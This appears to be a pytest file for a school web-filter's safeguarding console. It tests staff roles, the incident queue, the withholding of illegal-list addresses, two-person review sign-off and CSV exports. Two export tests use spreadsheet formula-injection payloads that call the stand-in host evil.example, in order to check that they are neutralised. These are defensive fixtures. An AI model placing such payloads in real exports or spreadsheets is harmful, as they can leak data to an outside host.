"""The safeguarding lead's pages through Starlette's test client, on a real SQLite store."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from proxy.console.app import create_app
from proxy.decision import WITHHELD, Decision, Matched
from proxy.identity import Identity
from proxy.incidents import store as incidents
from proxy.incidents.escalation import load_escalation
from proxy.incidents.events import IncidentEvent, concerning_search, from_decision, search_event
from proxy.store.engine import make_engine, session
from tests.console_accounts import add_account
from tests.unit.proxy.configs import ROOT, write_config
from tests.unit.proxy.console.test_app import client
from tests.unit.proxy.test_cli_changes import POLICY

ESCALATION = load_escalation(ROOT / "config" / "escalation.yaml")
NOW = datetime.now(UTC).replace(microsecond=0)
T0 = NOW - timedelta(hours=2)
PUPIL = Identity("p.one", "pupil", "10.10.0.7", "address")
SHARED = Identity(None, "guest", "10.10.0.99", "address")
IWF_URL = "iwf-test.example/abuse/test-image.jpg"


def hit(
    who: Identity, at: datetime, *, illegal: bool = False, url: str = "adult-demo.example/"
) -> IncidentEvent:
    decision = Decision(
        decision="block",
        category="child_abuse" if illegal else "adult",
        action="unacceptable",
        incident="illegal" if illegal else "unacceptable",
        incident_type="illegal" if illegal else "deliberate_offensive",
        matched=Matched("iwf" if illegal else "ut1/adult", WITHHELD if illegal else url),
        rule="r",
        group=who.group,
        user=who.user,
    )
    event = from_decision(decision, who, url, at, b"k" * 32, "SG-1", ESCALATION)
    assert event is not None
    return event


def line(at: datetime, user: str | None, host: str, path: str = "/", **more: object) -> str:
    return json.dumps(
        {
            "time": at.isoformat(),
            "user": user,
            "client_ip": "10.10.0.7" if user else "10.10.0.99",
            "method": "GET",
            "host": host,
            "path": path,
            "decision": more.pop("decision", "allow"),
            **more,
        }
    )


@pytest.fixture
def config(tmp_path: Path) -> Path:
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'store.db'}", POLICY)
    for name, role in (
        ("a.dsl", "dsl"),
        ("b.deputy", "reviewer"),
        ("it.tech", "technician"),
        ("head.teacher", "approver"),
    ):
        add_account(config, name, role)
    return config


@pytest.fixture
def app(config: Path, tmp_path: Path) -> object:
    made = create_app(config)
    engine = make_engine(f"sqlite:///{tmp_path / 'store.db'}")
    with session(engine) as s:
        # unacceptable (oldest), three times rolled up; a suicide search; an illegal hit (newest
        # is not what puts it first: severity is); a shared address's hit.
        for minutes in (0, 5, 10):
            incidents.record_incident(s, hit(PUPIL, T0 + timedelta(minutes=minutes)))
        search = concerning_search(
            PUPIL,
            "google",
            "how to kill myself",
            "suicide",
            "kill myself",
            T0 + timedelta(minutes=20),
        )
        incidents.record_incident(s, search)
        incidents.record_search(
            s,
            search_event(
                PUPIL, "google", "how to kill myself", "suicide", T0 + timedelta(minutes=20)
            ),
        )
        incidents.record_incident(
            s, hit(PUPIL, T0 + timedelta(minutes=15), illegal=True, url=IWF_URL)
        )
        incidents.record_incident(s, hit(SHARED, T0 + timedelta(minutes=1)))
    data = tmp_path / "var"
    data.mkdir(exist_ok=True)
    lines = [
        line(T0 - timedelta(minutes=40), "p.one", "too-early.example"),
        line(T0 - timedelta(minutes=10), "p.one", "homework.example", "/maths"),
        line(
            T0 - timedelta(minutes=10), "p.one", "homework.example", "/logo.png", ctype="image/png"
        ),
        line(T0 - timedelta(minutes=9), "p.two", "someone-else.example"),
    ]
    for minutes in (0, 5, 10):
        lines.append(
            line(
                T0 + timedelta(minutes=minutes),
                "p.one",
                "adult-demo.example",
                decision="block",
                category="adult",
            )
        )
    lines.append(
        line(
            T0 + timedelta(minutes=15),
            "p.one",
            "(withheld)",
            "(withheld)",
            decision="block",
            category="child_abuse",
        )
    )
    lines.append(line(T0 + timedelta(minutes=30), "p.one", "news.example", "/story"))
    (data / "access.log").write_text("\n".join(sorted(lines)) + "\n", encoding="utf-8")
    return made


def ids_in_order(html: str) -> list[int]:
    return [int(x) for x in re.findall(r'href="/incidents/(\d+)"', html)]


def test_only_the_safeguarding_roles_open_the_queue(app: object, config: Path) -> None:
    for name in ("it.tech", "head.teacher"):
        c = client(app, config, name)
        assert c.get("/queue").status_code == 403
        assert c.get("/incidents/1").status_code == 403
    assert client(app, config, "b.deputy").get("/queue").status_code == 200


def test_the_queue_puts_illegal_first_then_the_suicide_search(app: object, config: Path) -> None:
    page = client(app, config, "a.dsl").get("/queue").text
    order = ids_in_order(page)
    assert order[:2] == [3, 2]  # the illegal hit, then the search about suicide
    assert set(order[2:]) == {1, 4}
    assert "iwf-test" not in page
    assert "4</strong> waiting for a first review" in page
    assert "Refer to Police" in page  # the escalation table's actions beside each
    assert "shared address 10.10.0.99 (nobody signed in: not one person)" in page
    assert "Nobody is told at once" in page  # no alert recipient: said in red


def test_the_queue_filters(app: object, config: Path) -> None:
    c = client(app, config, "a.dsl")
    assert set(ids_in_order(c.get("/queue", params={"category": "adult"}).text)) == {1, 4}
    assert ids_in_order(c.get("/queue", params={"pupil": "10.10.0.99"}).text) == [4]
    assert ids_in_order(c.get("/queue", params={"type": "illegal"}).text) == [3]
    assert ids_in_order(c.get("/queue", params={"group": "guest"}).text) == [4]
    future = (NOW + timedelta(days=2)).date().isoformat()
    assert ids_in_order(c.get("/queue", params={"from": future}).text) == []


def test_the_incident_shows_every_hit_and_the_pages_around_it(app: object, config: Path) -> None:
    page = client(app, config, "a.dsl").get("/incidents/1").text
    assert "The 3 hits and searches this incident rolls up" in page
    assert "homework.example/maths" in page  # a page 10 minutes before
    assert "logo.png" not in page  # not every image
    assert "news.example/story" in page  # 20 minutes after the last hit
    assert "too-early.example" not in page  # 40 minutes before: outside the window
    assert "someone-else.example" not in page
    assert "how to kill myself" in page  # their searches
    assert "(address withheld: illegal list)" in page
    assert "iwf-test" not in page
    assert "Earlier incidents of p.one</h2>\n<p>None.</p>" in page


def test_an_illegal_incident_page_never_shows_the_address(app: object, config: Path) -> None:
    page = client(app, config, "a.dsl").get("/incidents/3").text
    assert "do not visit, refer to the police" in page
    assert "iwf-test" not in page
    assert "The 1 hits and searches" in page
    earlier = page.split("Earlier incidents of p.one")[1]
    assert 'href="/incidents/1"' in earlier  # the pupil's earlier incidents
    assert 'href="/incidents/4"' not in earlier  # the shared address's is not theirs


def test_a_missing_incident_is_404(app: object, config: Path) -> None:
    assert client(app, config, "a.dsl").get("/incidents/999").status_code == 404


def c2(token: str, **more: str) -> dict[str, str]:
    return {
        "csrf": token,
        "first_position": "Designated Safeguarding Lead",
        "second_reviewer": "b.deputy",
        "second_position": "Deputy DSL",
        "computer": "DSL laptop, safeguarding office",
        "reason": "hit on the IWF list",
        "conclusion": "referred",
        "action_taken": "police informed",
        **more,
    }


def csrf_of(page: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found is not None
    return found.group(1)


def test_c2_is_filled_by_one_and_signed_by_the_invited_second(app: object, config: Path) -> None:
    """The DSL fills C2; they cannot sign it themselves nor close it; only the invited
    reviewer signs, from their own login; then it can be closed, with both signatures."""
    dsl = client(app, config, "a.dsl")
    token = csrf_of(dsl.get("/incidents/1").text)
    response = dsl.post("/incidents/1/review", data=c2(token), follow_redirects=False)
    assert response.status_code == 303
    page = dsl.get("/incidents/1").text
    assert "has not signed yet" in page
    assert "Waiting for b.deputy to sign" in page
    assert "1</strong> waiting for a second reviewer" in dsl.get("/queue").text
    assert (
        "the second reviewer has not signed"
        in dsl.post("/incidents/1/close", data={"csrf": token, "outcome": "done"}).text
    )
    refused = dsl.post("/incidents/1/sign", data={"csrf": token})
    assert refused.status_code == 400
    assert "a second person must sign it" in refused.text
    deputy = client(app, config, "b.deputy")
    deputy_token = csrf_of(deputy.get("/incidents/1").text)
    assert deputy.post("/incidents/1/sign", data={"csrf": token}).status_code == 403  # not theirs
    response = deputy.post("/incidents/1/sign", data={"csrf": deputy_token}, follow_redirects=False)
    assert response.status_code == 303
    page = dsl.get("/incidents/1").text
    assert "has not signed yet" not in page
    assert page.count("signed 20") == 2  # both signatures, with their times
    response = dsl.post(
        "/incidents/1/close",
        data={"csrf": token, "outcome": "parents told"},
        follow_redirects=False,
    )
    assert response.status_code == 303
    assert "closed" in dsl.get("/incidents/1").text


def test_a_reviewer_cannot_invite_themselves(app: object, config: Path) -> None:
    dsl = client(app, config, "a.dsl")
    token = csrf_of(dsl.get("/incidents/1").text)
    refused = dsl.post("/incidents/1/review", data=c2(token, second_reviewer="a.dsl"))
    assert refused.status_code == 400
    assert "Not reviewed yet" in refused.text


@pytest.mark.parametrize("field", ["concern", "conclusion", "action_taken"])
def test_an_iwf_address_typed_into_c2_is_refused(app: object, config: Path, field: str) -> None:
    dsl = client(app, config, "a.dsl")
    token = csrf_of(dsl.get("/incidents/3").text)
    refused = dsl.post("/incidents/3/review", data=c2(token, **{field: f"saw {IWF_URL}"}))
    assert refused.status_code == 400
    assert "write no web address or site name" in refused.text
    assert "iwf-test" not in refused.text  # not even typed back into the form
    assert "hit on the IWF list" in refused.text  # the rest is
    page = dsl.get("/incidents/3").text
    assert "iwf-test" not in page
    assert "Not reviewed yet" in page


def test_the_pupil_history_and_its_csv(app: object, config: Path) -> None:
    """One pupil's sites, categories, searches and blocks over a period; the CSV has them;
    an address is labelled as shared, never as a person; other roles are refused."""
    dsl = client(app, config, "a.dsl")
    day = (T0 - timedelta(days=1)).date().isoformat(), (NOW + timedelta(days=1)).date().isoformat()
    page = dsl.get("/pupil", params={"who": "p.one", "from": day[0], "to": day[1]}).text
    assert "homework.example" in page
    assert "someone-else.example" not in page
    assert "how to kill myself" in page
    assert "(address withheld: illegal list)" in page
    assert "iwf-test" not in page
    exported = dsl.get("/pupil.csv", params={"who": "p.one", "from": day[0], "to": day[1]})
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert rows[0][0] == "time (UTC)"
    assert any(r[2] == "searched" and "how to kill myself" in r[3] for r in rows)
    assert any(r[2] == "opened a page" and r[3] == "homework.example/maths" for r in rows)
    assert "iwf-test" not in exported.text
    shared = dsl.get("/pupil", params={"who": "10.10.0.99", "from": day[0], "to": day[1]}).text
    assert "shared address 10.10.0.99 (nobody signed in: not one person)" in shared
    assert "This is a shared address or device, not a person" in shared
    assert (
        dsl.get(
            "/pupil", params={"who": "p.one", "from": "2026-01-01", "to": "2026-03-01"}
        ).status_code
        == 400
    )
    for name in ("it.tech", "head.teacher"):
        assert (
            client(app, config, name).get("/pupil.csv", params={"who": "p.one"}).status_code == 403
        )


def test_the_timeline_reads_the_access_log_where_the_settings_put_it(
    app: object, config: Path, tmp_path: Path
) -> None:
    """``access_log:`` in schoolgate.yaml moves the log: the incident page reads that file and
    its rotated copy, and not access.log in the data folder."""
    data = tmp_path / "var" / "access.log"
    lines = data.read_text(encoding="utf-8").splitlines()
    logs = tmp_path / "logs"
    logs.mkdir()
    # Rotated the night before the hits: the page before them is in the rotated file.
    (logs / "custom.log.1").write_text("\n".join(lines[:3]) + "\n", encoding="utf-8")
    (logs / "custom.log").write_text("\n".join(lines[3:]) + "\n", encoding="utf-8")
    data.write_text(line(T0 - timedelta(minutes=5), "p.one", "decoy.example") + "\n")
    dsl = client(app, config, "a.dsl")
    before = dsl.get("/incidents/1").text  # the default path: the data folder's access.log
    assert "decoy.example" in before
    assert "homework.example/maths" not in before
    settings = config / "schoolgate.yaml"
    settings.write_text(settings.read_text() + "access_log: ../logs/custom.log\n")
    page = dsl.get("/incidents/1").text
    assert "homework.example/maths" in page  # from custom.log.1
    assert "news.example/story" in page  # from custom.log
    assert "decoy.example" not in page


def test_c2_records_where_the_incident_was_referred(app: object, config: Path) -> None:
    """The C2 form's ticked referrals are recorded and shown, on the page and the print."""
    dsl = client(app, config, "a.dsl")
    token = csrf_of(dsl.get("/incidents/3").text)
    form: dict[str, str | list[str]] = {**c2(token), "referred_to": ["police", "iwf_ceop"]}
    response = dsl.post("/incidents/3/review", data=form, follow_redirects=False)
    assert response.status_code == 303
    page = dsl.get("/incidents/3").text
    assert "Referred outside the school to</dt><dd>the police; the IWF or CEOP</dd>" in page
    printed = dsl.get("/incidents/3/c2.pdf")
    assert printed.status_code == 200
    refused = dsl.post("/incidents/1/review", data={**c2(token), "referred_to": "the moon"})
    assert refused.status_code == 400
    assert "referred to: unknown" in refused.text


@pytest.mark.parametrize("layout", ["cpoms", "myconcern"])
def test_the_safeguarding_system_exports(
    app: object, config: Path, tmp_path: Path, layout: str
) -> None:
    """CPOMS and MyConcern CSVs: their columns, one row per incident, no IWF address, and a
    pupil's search that starts like a formula is written as text; DSL roles only."""
    from proxy.incidents.safeguarding_csv import LAYOUTS

    engine = make_engine(f"sqlite:///{tmp_path / 'store.db'}")
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with session(engine) as s:
        incidents.record_incident(
            s,
            concerning_search(PUPIL, "google", attack, "self_harm", "cut", T0 - timedelta(hours=1)),
        )
    dsl = client(app, config, "a.dsl")
    everything = dsl.get(f"/incidents/{layout}.csv")
    assert everything.status_code == 200
    assert everything.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(everything.text)))
    assert tuple(rows[0]) == LAYOUTS[layout]
    assert len(rows) == 1 + 5
    assert "iwf-test" not in everything.text
    for r in rows[1:]:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    who = [r[0] for r in rows[1:]]
    assert "shared address 10.10.0.99 (nobody signed in: not one person)" in who
    searched = next(r for r in rows[1:] if "HYPERLINK" in r[4])
    assert attack in searched[4]  # the words, kept, inside a cell that starts with text
    illegal = dsl.get(f"/incidents/{layout}.csv", params={"id": "3"})
    rows = list(csv.reader(io.StringIO(illegal.text)))
    assert len(rows) == 2
    assert "matched the IWF list" in rows[1][4]
    assert "iwf-test" not in illegal.text
    assert rows[1][0] == "p.one"
    assert rows[1][8].startswith("Schoolgate incident #3")
    assert dsl.get("/incidents/other.csv").status_code == 404
    for name in ("it.tech", "head.teacher"):
        assert client(app, config, name).get(f"/incidents/{layout}.csv").status_code == 403


def test_a_formula_in_a_review_is_text_in_the_c3_export(
    app: object, config: Path, tmp_path: Path
) -> None:
    """The console's C3 CSV writes free text that starts like a formula as text."""
    engine = make_engine(f"sqlite:///{tmp_path / 'store.db'}")
    form = incidents.ReviewForm(
        first_reviewer="a.dsl", first_position="DSL", second_reviewer="b.deputy",
        second_position="Deputy", computer="laptop", reason="r", conclusion="c",
        action_taken='=HYPERLINK("http://evil.example/","x")',
    )  # fmt: skip
    with session(engine) as s:
        incidents.review(s, 1, form, NOW)
    exported = client(app, config, "a.dsl").get("/incidents/c3.csv").text
    cells = [c for r in csv.reader(io.StringIO(exported)) for c in r]
    assert '\'=HYPERLINK("http://evil.example/","x")' in cells
    assert not [c for c in cells if c.startswith("=")]
